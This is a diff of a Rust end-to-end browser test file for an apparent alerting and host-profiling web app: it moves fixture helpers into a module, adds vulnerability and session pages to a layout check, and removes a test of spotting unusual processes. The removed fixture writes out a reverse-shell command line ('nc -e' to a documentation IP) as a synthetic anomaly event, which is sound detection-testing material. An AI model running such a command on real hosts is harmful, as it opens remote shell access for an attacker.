@@ -8,78 +8,12 @@ use lanner_io::receiver::Secret;
 use lanner_testkit::Browser;
 use serde_json::{Value, json};
 
+use crate::browsing::{browse, fill, open, pay};
 use crate::switching::{Running, start_with};
 
 const TOKEN: &str = "0123456789abcdef0123";
 /// A telephone, a tablet, a desk.
 const WIDTHS: [(u32, u32); 3] = [(390, 844), (768, 1024), (1440, 900)];
-
-/// A server with something to see: two banks that fire, one that does not, and a switch.
-async fn open() -> Running {
-    let server = start_with(tempfile::tempdir().unwrap(), |_| ()).await;
-    fill(&server).await;
-    server
-}
-
-async fn fill(server: &Running) {
-    server.put("block-all", json!({ "when": "bank == \"hsbc\"", "status": "inactive", "reason": "a <drill>", "owner": "payments" })).await;
-    let rules = json!({ "rules": [
-        { "id": "too-many", "query": { "stream": "payments", "measure": "count", "by": ["bank"] }, "window": "1s", "absolute": { "max": 0 },
-          "content": "{{ bank }}: <i>{{ value }}</i> payments", "labels": { "severity": "page" } },
-        { "id": "quiet", "query": { "stream": "nothing", "measure": "count" }, "window": "1h", "absolute": { "max": 5 } },
-    ] });
-    server.fine("POST", "/api/v1/apply", rules).await;
-    behave(server).await;
-    pay(server, "hsbc").await;
-}
-
-/// Programs on a host: cron's for a day, a new version of its image, and one that nobody knows.
-async fn behave(server: &Running) {
-    let profile = json!({ "fields": ["proc.exepath", "proc.pname"], "where": "evt.type in (execve)", "learn": "1h", "memory": 1 });
-    let processor = json!({ "id": "usual", "stream": "falco", "profile": profile });
-    server.fine("POST", "/api/v1/apply", json!({ "processors": [processor] })).await;
-    let now = server.fine("GET", "/api/v1/status", Value::Null).await["now"].as_str().unwrap().to_owned();
-    let now_ms = lanner_core::time::parse_time_ms(&now).unwrap();
-    let event = |minutes: i64, parents: &[&str], line: &str| {
-        let fields = json!({
-            "evt.type": "execve", "proc.name": line.split(' ').next(), "proc.exepath": format!("/usr/bin/{}", line.split(' ').next().unwrap()),
-            "proc.cmdline": line, "proc.pname": parents[0], "proc.aname": parents,
-        });
-        json!({ "time": now_ms - minutes * 60_000, "hostname": "web-7", "rule": "started", "output_fields": fields }).to_string()
-    };
-    let mut events: Vec<String> =
-        (0..120).rev().map(|at| event(10 + at * 10, &["cron", "systemd"], "backup --run")).collect();
-    events.push(event(3, &["nginx", "systemd"], "nc -e <sh> 203.0.113.7 4444"));
-    server.text("/api/v1/events/falco", events.join("\n")).await;
-}
-
-/// Has alerts fire: payments that are counted in the next window.
-async fn pay(server: &Running, bank: &str) {
-    for _ in 0..100 {
-        let event = json!({ "bank": bank, "status": "fail" }).to_string();
-        server.text("/api/v1/events/payments", event).await;
-        let alerts = server.fine("GET", "/api/v1/alerts?state=firing", Value::Null).await;
-        if alerts.as_array().unwrap().iter().any(|alert| alert["group"]["bank"] == bank) {
-            return;
-        }
-        tokio::time::sleep(Duration::from_millis(300)).await;
-    }
-    panic!("no alert of {bank}");
-}
-
-/// Does what a person does, beside the server.
-async fn browse<T: Send + 'static>(
-    server: &Running,
-    act: impl FnOnce(&mut Browser, &str) -> T + Send + 'static,
-) -> Option<T> {
-    let (url, folder) = (server.url.clone(), tempfile::tempdir().unwrap());
-    let act = move || {
-        let mut browser = Browser::start(folder.path())?;
-        browser.resize(1440, 900);
-        Some(act(&mut browser, &url))
-    };
-    tokio::task::spawn_blocking(act).await.unwrap()
-}
 
 /// The status, the headers and the text of a page, asked without a browser.
 async fn get(server: &Running, path: &str) -> (u16, reqwest::header::HeaderMap, String) {
@@ -92,6 +26,8 @@ async fn get(server: &Running, path: &str) -> (u16, reqwest::header::HeaderMap, 
 async fn addresses(server: &Running) -> Vec<String> {
     let alerts = server.fine("GET", "/api/v1/alerts", Value::Null).await;
     let fingerprint = alerts[0]["fingerprint"].as_str().unwrap().to_owned();
+    let findings = server.fine("GET", "/api/v1/findings?status=any", Value::Null).await;
+    let key = findings["findings"][0]["key"].as_str().unwrap().to_owned();
     let fixed = [
         "/",
         "/?q=hsbc",
@@ -115,9 +51,18 @@ async fn addresses(server: &Running) -> Vec<String> {
         "/profiles",
         "/profiles/usual",
         "/profiles/usual?span=1h",
+        "/sessions",
+        "/sessions?span=1w",
+        "/vulnerabilities",
+        "/vulnerabilities?filter=severity+%3D%3D+%22critical%22&status=any",
+        "/vulnerabilities?filter=nonsense+%3D%3D",
         "/more",
     ];
-    fixed.map(str::to_owned).into_iter().chain([format!("/alerts/{fingerprint}")]).collect()
+    fixed
+        .map(str::to_owned)
+        .into_iter()
+        .chain([format!("/alerts/{fingerprint}"), format!("/vulnerabilities/{key}")])
+        .collect()
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -157,48 +102,6 @@ async fn each_page_fits_and_can_be_read_at_every_width_in_light_and_dark() {
             note(browser.complaints());
         }
         assert_eq!(problems, Vec::<String>::new());
-    })
-    .await;
-    server.server.stop().await;
-}
-
-/// What is unusual on a host, why, and who started it, on a telephone and by what is on the page alone.
-#[tokio::test(flavor = "multi_thread")]
-async fn a_person_finds_what_is_unusual_on_a_host_and_why() {
-    let server = open().await;
-    browse(&server, |browser, url| {
-        browser.resize(390, 844);
-        browser.go(url);
-        browser.follow("header a[href='/profiles']");
-        assert!(browser.text("main tbody tr").contains("active"), "{}", browser.text("main"));
-        browser.follow("main a[href='/profiles/usual']");
-        let rare = browser.text("#rare + .scroll tbody");
-        assert!(
-            rare.contains("nc -e <sh> 203.0.113.7 4444")
-                && rare.contains("never seen: proc.exepath, proc.pname"),
-            "{rare}"
-        );
-        assert!(!rare.contains("nginx ← systemd"), "{rare}");
-        browser.click("#rare + .scroll summary");
-        browser.wait_for(
-            "document.querySelector('#rare + .scroll tbody').innerText.includes('nginx ← systemd')",
-        );
-        let why = browser.text("#rare + .scroll details dl");
-        assert!(why.contains("/usr/bin/nc new") && why.contains("never"), "{why}");
-        // The way to it is open in the tree, and what is usual is closed.
-        let tree = browser.text(".tree");
-        assert!(
-            tree.contains("nginx") && tree.contains("nc 1 event 1 rare") && !tree.contains("backup"),
-            "{tree}"
-        );
-        browser.click(".tree details:not([open]) > summary");
-        browser.wait_for("document.querySelector('.tree').innerText.includes('backup 120 events')");
-        assert!(browser.text("#common + .scroll").contains("/usr/bin/backup | cron"));
-        assert!(browser.text("main").contains("No host tells what it saw"));
-        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
-        browser.follow(".spans a[href='/profiles/usual?span=1h']");
-        assert!(browser.text(".spans [aria-current]").contains("1h"));
-        assert_eq!(browser.complaints(), Vec::<String>::new());
     })
     .await;
     server.server.stop().await;
